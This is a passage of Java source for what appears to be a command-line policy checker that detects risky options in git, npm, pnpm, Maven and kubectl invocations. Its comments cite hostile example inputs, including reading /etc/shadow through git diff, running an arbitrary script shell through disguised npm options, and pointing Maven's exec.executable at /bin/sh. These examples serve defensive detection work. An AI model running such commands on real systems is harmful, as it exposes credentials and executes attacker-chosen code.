    for (int j = 0; j < cluster.length(); j++) {
      char c = cluster.charAt(j);
      if (t.valueLetters().indexOf(c) >= 0) {
        if (c == letter) {
          return next < argv.size() ? argv.get(next) : null;
        }
        next++;
      }
    }
    return null;
  }

  /**
   * Whether a directory named on the command line is outside the working directory, read alone
   * (erring towards finding: {@code -C a -C ..} is refused though it ends in the working
   * directory): absolute, starting with {@code ~} (a shell expands it to a home directory), or with
   * a {@code ..} that climbs above where it started. A symbolic link inside the working directory
   * is not followed (docs/policy.md, risky flags).
   */
  static boolean leavesWorkdir(String dir) {
    if (dir.isEmpty() || dir.startsWith("/") || dir.startsWith("~")) {
      return !dir.isEmpty();
    }
    int depth = 0;
    for (String segment : dir.split("/", -1)) {
      if (segment.equals("..")) {
        if (--depth < 0) {
          return true;
        }
      } else if (!segment.isEmpty() && !segment.equals(".")) {
        depth++;
      }
    }
    return false;
  }

  /** A JDK launcher's {@code @file}: more options, read from a file the caller chooses. */
  private static void argumentFile(Tool t, String word, List<Use> found) {
    Flag f = match(t, word, null, List.of());
    if (f != null) {
      found.add(new Use(word, f, t));
    }
  }

  /**
   * The {@code NAME=VALUE} a word defines when it is the property option of a program that reads
   * {@code -DNAME=VALUE} (one that lists {@code -D} properties and reads one option per word:
   * Maven), or null. Commons CLI also reads {@code -D} and {@code --define} with the value in the
   * next word ({@code -D exec.executable=/bin/sh}, {@code --define argLine=...}), {@code
   * --define=NAME=VALUE}, and a long option by any unambiguous prefix, with one dash or two ({@code
   * --defi=argLine=...}, {@code -define ...}): matched as the other long names are ({@link #names},
   * {@link #same}). {@code -DNAME=VALUE} in one word is matched by its name already.
   */
  private static String definedProperty(Tool t, String word, String next) {
    if (t.style() != Style.WORDS
        || t.flags().stream().noneMatch(f -> f.name().startsWith("-D") && f.name().length() > 2)) {
      return null;
    }
    int eq = word.indexOf('=');
    if (word.equals("-D")) {
      return next;
    }
    for (String name : names(t, word)) {
      if (name.startsWith("--") && same(t, "--define", name)) {
        return eq < 0 ? next : word.substring(eq + 1);
      }
    }
    return null;
  }

  /** {@code name=value} as {@code name}. */
  private static String nameOf(String word) {
    int eq = word.indexOf('=');
    return eq < 0 ? word : word.substring(0, eq);
  }

  /**
   * An argument of git that is an {@code ext::} URL ({@link #EXT_TRANSPORT}), alone or as the value
   * of an option ({@code --url=ext::...}), wherever it is: a remote URL is a positional argument of
   * clone, fetch, pull, push, ls-remote, remote add and submodule add, and the value of several
   * options. git reads the transport name before {@code ::} case-sensitively (transport.c
   * transport_get: the helper is {@code git-remote-ext}).
   *
   * @return the {@link #EXT_TRANSPORT} use, or null
   */
  /**
   * The first word npm passes to a package script that is an option ({@link #NPM_SCRIPT_OPTIONS}),
   * or null: in nopt's reading {@code r} of npm's (pnpm's) argv, a word of {@code remain} after the
   * command, at index {@code from} or later (the words before it are matched by the rule's {@code
   * args}), that starts with a dash. nopt reads every such word before {@code --} as an option, so
   * one left in {@code remain} came after {@code --} (or {@code ---}). pnpm also passes the options
   * written after the script's name.
   */
  static Use npmScriptOption(String binary, List<String> argv, Nopt.Reading r, int from) {
    Tool t = tool(binary);
    String p = CommandWrappers.programName(binary);
    boolean pnpm = p.equals("pnpm");
    if (t == null || !(p.equals("npm") || pnpm) || r.remain().isEmpty()) {
      return null;
    }
    String command = CommandWrappers.Npm.resolve(r.remain().get(0));
    // pnpm runs a script for a word that is none of its commands (pnpm watch is pnpm run watch)
    if (command == null ? !pnpm : !NPM_SCRIPT_COMMANDS.contains(command)) {
      return null;
    }
    for (int i = Math.max(1, from); i < r.remain().size(); i++) {
      String w = r.remain().get(i);
      if (w.length() > 1 && w.charAt(0) == '-') {
        return new Use(w, NPM_SCRIPT_OPTIONS, t);
      }
    }
    if (pnpm) {
      // pnpm 7+ passes every word after the script's name to the script, options too, without
      // -- (pnpm/pnpm#4290, pnpm.io/cli/run): from the command word (and the script's name after
      // run), the first of them in argv, erring towards finding
      int names = "run".equals(command) || "run-script".equals(command) ? 2 : 1;
      int k = 1;
      for (int n = 0; n < names && n < r.remain().size(); n++) {
        int at = argv.subList(k, argv.size()).indexOf(r.remain().get(n));
        k = at < 0 ? 1 : k + at + 1; // not found as a word (split from an = value): every word
        if (at < 0) {
          break;
        }
      }
      for (; k < argv.size() && !argv.get(k).equals("--"); k++) {
        String w = argv.get(k);
        if (w.length() > 1 && w.charAt(0) == '-') {
          return new Use(w, NPM_SCRIPT_OPTIONS, t);
        }
      }
    }
    return null;
  }

  static Use extTransport(String binary, List<String> argv) {
    Tool t = tool(binary);
    if (t == null || !t.name().equals("git")) {
      return null;
    }
    for (int i = 1; i < argv.size(); i++) {
      String w = argv.get(i);
      if (w.startsWith("ext::") || w.contains("=ext::")) {
        return new Use(w, EXT_TRANSPORT, t);
      }
    }
    return null;
  }

  /**
   * git diff compares two files of the host, as with {@code --no-index}, when it is given exactly
   * two paths and one of them is outside the work tree, or when it runs outside a work tree
   * (builtin/diff.c {@code DIFF_NO_INDEX_IMPLICIT}): {@code git diff /etc/shadow /dev/null} in a
   * checkout prints /etc/shadow. The work tree is not known here, so an argument of {@code git
   * diff} that is not within the working directory {@code cwd} counts (the work tree's top is the
   * working directory or above it): an absolute path or one that climbs with {@code ..}; with
   * {@code cwd} unknown, any absolute or climbing argument. Revisions ({@code HEAD~1}, {@code
   * main..topic}) resolve within it. Erring towards finding: every argument after {@code diff}
   * counts, not only when there are two. What is not found: a working directory that is not a
   * checkout at all (then any two files in it are compared, as the same files would be read by an
   * allowed {@code cat}).
   *
   * @return the {@link #NO_INDEX} use, or null
   */
  static Use implicitNoIndex(String binary, List<String> argv, String cwd) {
    Tool t = tool(binary);
    if (t == null || !t.name().equals("git")) {
      return null;
    }
    boolean afterDiff = false;
    boolean endOfFlags = false;
    String dir = cwd == null ? null : PathPattern.resolve(cwd, null);
    for (int i = 1; i < argv.size(); i++) {
      String w = argv.get(i);
      if (!afterDiff) {
        if (w.startsWith("-")) {
          if (w.indexOf('=') < 0 && t.globalValues().contains(w)) {
            i++;
          }
          continue;
        }
        if (!w.equals("diff") && !w.equals("difftool")) {
          return null; // difftool runs git diff with its arguments
        }
        afterDiff = true;
        continue;
      }
      if (!endOfFlags && w.equals("--")) {
        endOfFlags = true;
        continue;
      }
      if (!endOfFlags && w.startsWith("-")) {
        continue;
      }
      if (outside(w, dir)) {
        return new Use(w, NO_INDEX, t);
      }
    }
    return null;
  }

  /**
   * Whether {@code path} names something outside the working directory {@code dir} (null: not
   * known, so as {@link #leavesWorkdir} reads it). A leading {@code ~} is outside either way: a
   * shell line expands it to the home directory.
   */
  private static boolean outside(String path, String dir) {
    if (dir == null || path.startsWith("~")) {
      return leavesWorkdir(path);
    }
    String resolved = PathPattern.resolve(path, dir);
    return resolved == null
        || !(resolved.equals(dir) || resolved.startsWith(dir.endsWith("/") ? dir : dir + "/"));
  }

  /**
   * Whether {@code word} (with {@code next} the word after it) gives kubectl's {@code -o} a format
   * that reads a template file ({@link #KUBECTL_FILE_OUTPUT}): {@code --output=F}, {@code --output
   * F}, {@code -o F}, {@code -o=F}, {@code -oF}, also at the end of a cluster of boolean letters
   * ({@code -Ao F}; pflag reads shorthands so). Format names compare in any case, erring towards
   * finding: any format whose name contains {@code file}.
   */
  static boolean kubectlFileOutput(String word, String next) {
    String value = optionValue(BY_PROGRAM.get("kubectl"), word, next, "--output", 'o');
    if (value == null) {
      return false;
    }
    int eq = value.indexOf('=');
    String format = (eq < 0 ? value : value.substring(0, eq)).toLowerCase(java.util.Locale.ROOT);
    return format.contains("file");
  }

  /**
   * Whether a short cluster reaches a letter that takes the program as its value (a listed flag
   * that takes a value: python's {@code -c}, {@code -m}), after which the interpreter reads no more
   * options.
   */
  private static boolean endsOptions(Tool t, String word) {
    if (word.startsWith("--")) {
      return false;
    }
    for (int j = 1; j < word.length(); j++) {
      char c = word.charAt(j);
      if (t.valueLetters().indexOf(c) >= 0) {
        String letter = "-" + c;
        return t.flags().stream().anyMatch(f -> f.name().equals(letter));
      }
    }
    return false;
  }

  /** nopt's test for a word that a String option leaves to be read as an option. */
  private static final java.util.regex.Pattern NOPT_OPTION_LIKE =
      java.util.regex.Pattern.compile("^-{1,2}[^-]");

  /** Catalogue entries whose program reads its options with nopt (npm/cli, pnpm). */
  private static final Set<String> NOPT_TOOLS = Set.of("npm", "npx");

  /**
   * The long option nopt (npm/nopt lib/nopt-lib.js, {@code parse}) reads in a word, besides the
   * word itself: it strips every leading dash ({@code ---script-shell} is {@code --script-shell}),
   * then every {@code no-} in any case, each one negating the last; and a negated option whose type
   * admits a String is set to the word after it, or to the value after {@code =}. So {@code npm
   * test --no-script-shell=/tmp/x} and {@code npm test --NO-no-script-shell /tmp/x} run {@code
   * /tmp/x} as the script shell (npm 11.19, red team rt19exec). Both the word without its dashes
   * and the word without its {@code no-} are candidates; abbreviations and camelCase follow in
   * {@link #same}.
   */
  private static void noptNames(String whole, Set<String> out) {
    int d = 0;
    while (d < whole.length() && whole.charAt(d) == '-') {
      d++;
    }
    String base = whole.substring(d);
    if (base.isEmpty()) {
      return;
    }
    if (d > 2 || (d == 1 && base.length() >= 3)) {
      out.add("--" + base);
    }
    int at = 0;
    while (base.length() - at > 3 && base.regionMatches(true, at, "no-", 0, 3)) {
      at += 3;
    }
    if (at > 0) {
      out.add("--" + base.substring(at));
    }
  }

  /** The names one word may stand for, most literal first. */
  static List<String> names(Tool t, String word) {
    Set<String> out = new LinkedHashSet<>();
    int eq = word.indexOf('=');
    String whole = eq < 0 ? word : word.substring(0, eq);
    if (NOPT_TOOLS.contains(t.name()) && whole.length() > 1 && whole.charAt(0) == '-') {
      noptNames(whole, out);
      if (eq >= 0 && NOPT_OPTION_LIKE.matcher(word.substring(eq + 1)).find()) {
        // nopt splits --tag=VALUE into two words, and a String option leaves a VALUE that looks
        // like an option to be read as one: npm 11.19.1 runs the script shell of `npm test
        // --tag=--script-shell=/tmp/x` (rt19exec). Each round is shorter, so this ends.
        out.addAll(names(t, word.substring(eq + 1)));
      }
    }
    if (whole.startsWith("--") || t.style() == Style.JDK) {
      out.add(whole);
      return List.copyOf(out);
    }
    out.add(whole);
    if (t.style() == Style.WORDS) {
      if (whole.length() > 2) {
        out.add("-" + whole); // Go: -chdir is --chdir
        if (!t.notAbbreviations().contains(whole)) {
          out.add(whole.substring(0, 2)); // commons-cli: -sFILE is -s FILE
        }
      }
      return List.copyOf(out);
    }
    if (whole.length() >= 4) {
      out.add("-" + whole); // nopt and Go-style long options with one dash
    }
    // getopt: letters until one that takes a value; that one takes the rest of the word
    for (int j = 1; j < word.length(); j++) {
      char c = word.charAt(j);
      if (c == '=') {
        break;
      }
      out.add("-" + c);
      if (t.valueLetters().indexOf(c) >= 0) {
        break;
      }
    }
    return List.copyOf(out);
  }

  private static Flag match(Tool t, String name, String sub, List<String> positional) {
    for (Flag f : t.flags()) {
      if (!applies(f, sub, positional)) {
        continue;
      }
      if (same(t, f.name(), name)) {
        return f;
      }
    }
    return null;
  }

  /**
   * Whether a flag written {@code name} is catalogue entry {@code listed}. Long names are compared
   * in lower case and with {@code _} as {@code -} ({@code --Script_Shell}), and camelCase as
   * kebab-case ({@code --scriptShell}): where a program does not read them so, it rejects or
   * ignores them, and refusing more is the safe side.
   */
  static boolean same(Tool t, String listed, String written) {
    if (written.startsWith("--") && !written.equals(kebab(written))) {
      // camelCase (--scriptShell): npm 11 does not read it as --script-shell (it warns "Unknown
      // cli config"), but pnpm keeps its settings in camelCase; erring towards finding
      if (sameName(t, listed, kebab(written))) {
        return true;
      }
    }
    return sameName(t, listed, written);
  }

  /** {@code --scriptShell} as {@code --script-Shell}: a dash before an upper-case letter. */
  private static String kebab(String written) {
    return written.replaceAll("(?<=[a-z0-9])(?=[A-Z])", "-");
  }

  private static boolean sameName(Tool t, String listed, String written) {
    String name =
        written.startsWith("--")
            ? written.toLowerCase(java.util.Locale.ROOT).replace('_', '-')
            : written;
    if (listed.endsWith("*")) {
      return name.startsWith(listed.substring(0, listed.length() - 1));
    }
    if (listed.equals(name)) {
      return true;
    }
    boolean longName = name.startsWith("--") && name.length() >= 4;
    if (t.style() == Style.WORDS
        && longName
        && listed.startsWith("-")
        && !listed.startsWith("--")) {
      return listed.equals(name.substring(1)); // terraform: --chdir is -chdir
    }
    return t.abbreviations()
        && longName
        && listed.startsWith(name)
        && !t.notAbbreviations().contains(name);
  }

  /**
   * Whether entry {@code f} applies at this position: before the subcommand always (for a flag that
   * is not a subcommand's own), after it unless the subcommand is one of {@code except}; a
   * subcommand's flag when that word is among the positional words before it (any of them, not only
   * the first: erring towards finding).
   */
  private static boolean applies(Flag f, String sub, List<String> positional) {
    if (f.where().isEmpty()) {
      return sub == null || !f.except().contains(sub);
    }
    for (String p : positional) {
      if (f.where().contains(p)) {
        return true;
      }
    }
    return false;
  }

  /**
   * Whether {@code flag}, as written in a rule, names a catalogue entry of one of {@code binaries}
   * (program names; null or a glob: any program).
   */
  static boolean catalogued(String flag, List<String> programs) {
    for (Tool t : tools(programs)) {
      for (Flag f : t.flags()) {
        if (f.name().equals(flag) || (t.style() == Style.WORDS && f.name().equals(dashes(flag)))) {
          return true;
        }
      }
    }
    return false;
  }

  /** The catalogue entries of {@code programs} (null: every program), for messages. */
  static List<String> listed(List<String> programs) {
    Set<String> out = new LinkedHashSet<>();
    for (Tool t : tools(programs)) {
      t.flags().forEach(f -> out.add(f.name()));
    }
    return List.copyOf(out);
  }

  private static List<Tool> tools(List<String> programs) {
    if (programs == null) {
      return List.copyOf(new LinkedHashSet<>(BY_PROGRAM.values()));
    }
    List<Tool> out = new ArrayList<>();
    for (String p : programs) {
      Tool t = tool(p);
      if (t != null && !out.contains(t)) {
        out.add(t);
      }
    }
    return out;
  }

  /** {@code --chdir} as {@code -chdir}: Go's flag package reads both. */
  private static String dashes(String flag) {
    return flag.startsWith("--") ? flag.substring(1) : flag;
  }

  /**
   * Whether a rule names the risky flag {@code use}: literally in {@code allowed} or in {@code
   * accepted} (for programs that read {@code -x} and {@code --x} alike, either spelling).
   */
  static boolean named(Use use, List<Glob> allowed, List<String> accepted) {
    String name = use.flag().name();
    boolean words = use.tool().style() == Style.WORDS;
    if (accepted != null) {
      for (String a : accepted) {
        if (a.equals(name) || (words && dashes(a).equals(name))) {
          return true;
        }
      }
    }
    if (allowed != null) {
      for (Glob g : allowed) {
        if (g.isLiteral()
            && (g.literal().equals(name) || (words && dashes(g.literal()).equals(name)))) {
          return true;
        }
      }
    }
    return false;
  }
}
